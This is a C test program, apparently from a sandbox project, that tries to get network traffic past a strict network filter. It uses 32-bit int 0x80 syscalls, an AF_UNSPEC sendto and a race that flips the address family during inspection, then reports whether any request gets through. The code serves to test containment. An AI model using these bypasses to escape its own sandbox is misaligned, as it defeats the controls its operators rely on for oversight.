/* SPDX-License-Identifier: Apache-2.0 */
/* Ways around --strict: past_strict WAY ADDRESS PORT. Prints the result of each call, then what came back. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char request[] = "GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: close\r\n\r\n";
static struct sockaddr_in to;

#if defined(__x86_64__)
struct low { /* what 32-bit calls can point at */
    struct sockaddr_in to;
    uint32_t iov[2], msg[16], ring[32];
    char text[sizeof request];
};

static long call32(long nr, long a, const void *b, long c, long d)
{
    long r;
    __asm__ volatile("int $0x80"
                     : "=a"(r)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)r;
}

static uint32_t low(const void *p)
{
    return (uint32_t)(uintptr_t)p;
}

static int by_32_bit(const char *way)
{
    struct low *m = mmap((void *)0x10000000, sizeof *m, PROT_READ | PROT_WRITE,
                         MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    m->to = to;
    memcpy(m->text, request, sizeof request);
    m->iov[0] = low(m->text);
    m->iov[1] = sizeof request - 1;
    m->msg[0] = low(&m->to);
    m->msg[1] = sizeof m->to;
    m->msg[2] = low(m->iov);
    m->msg[3] = 1;
    int tcp = socket(AF_INET, SOCK_STREAM, 0), udp = socket(AF_INET, SOCK_DGRAM, 0);
    long r = strcmp(way, "sendmsg32") == 0    ? call32(370, tcp, m->msg, MSG_FASTOPEN, 0)
             : strcmp(way, "sendmmsg32") == 0 ? call32(345, tcp, m->msg, 1, MSG_FASTOPEN)
             : strcmp(way, "connect32") == 0  ? call32(362, tcp, &m->to, sizeof m->to, 0)
             : strcmp(way, "ring32") == 0     ? call32(425, 8, m->ring, 0, 0)
                                              : call32(370, udp, m->msg, 0, 0);
    printf("%ld\n", r);
    return 0;
}
#endif

static int by_unspec(void)
{
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    to.sin_family = AF_UNSPEC;
    long sent = sendto(fd, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
    printf("%ld %d\n", sent, errno);
    return 0;
}

static volatile struct sockaddr_in moving;
static volatile int over;

static void *flip(void *unused)
{
    while (!over) {
        moving.sin_family = AF_UNIX;
        moving.sin_family = AF_INET;
    }
    return unused;
}

/* The family changes while the supervisor looks. */
static int by_race(void)
{
    pthread_t t;
    int answers = 0;
    memcpy((void *)&moving, &to, sizeof to);
    pthread_create(&t, NULL, flip, NULL);
    for (int i = 0; i < 1000; i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(fd, (struct sockaddr *)&moving, sizeof to) == 0 &&
            write(fd, request, sizeof request - 1) > 0) {
            char c;
            answers += read(fd, &c, 1) == 1;
            i += 100; /* each is a call of its own */
        }
        close(fd);
    }
    over = 1;
    pthread_join(t, NULL);
    printf("%d\n", answers > 0);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 2;
    to.sin_family = AF_INET;
    to.sin_port = htons((uint16_t)atoi(argv[3]));
    inet_aton(argv[2], &to.sin_addr);
    if (strcmp(argv[1], "unspec") == 0)
        return by_unspec();
    if (strcmp(argv[1], "race") == 0)
        return by_race();
#if defined(__x86_64__)
    return by_32_bit(argv[1]);
#else
    return 2;
#endif
}
